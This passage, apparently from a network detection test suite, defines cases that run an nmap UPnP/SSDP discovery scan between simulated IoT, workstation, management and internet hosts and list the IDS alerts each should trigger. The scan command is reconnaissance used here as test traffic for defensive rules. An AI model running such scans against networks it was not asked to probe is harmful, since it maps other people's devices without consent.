             [f"{dst}/24" if dst.startswith("19") else f"{dst}/8"], [f"{src}/24" if src.startswith("19") else f"{src}/8"],
             clients=[f"nmap -n -Pn -sU -p1900 --script upnp-info {dst}"], expect=expect, tools=["nmap"])
    for name, what, src, dst, expect in (
        ("device-to-internet", "from a device to an internet host", DEVICE, OUTSIDE, {"iot-ssdp-msearch-leaving-iot-vlan": 1}),
        ("workstation-to-device", "from a workstation to a device", CORP_WS, DEVICE, {"iot-ssdp-msearch-into-iot-vlan": 1}),
        ("mgmt-to-device", "from the management net to a device", MGMT_HOST, DEVICE, {}),
    )
]
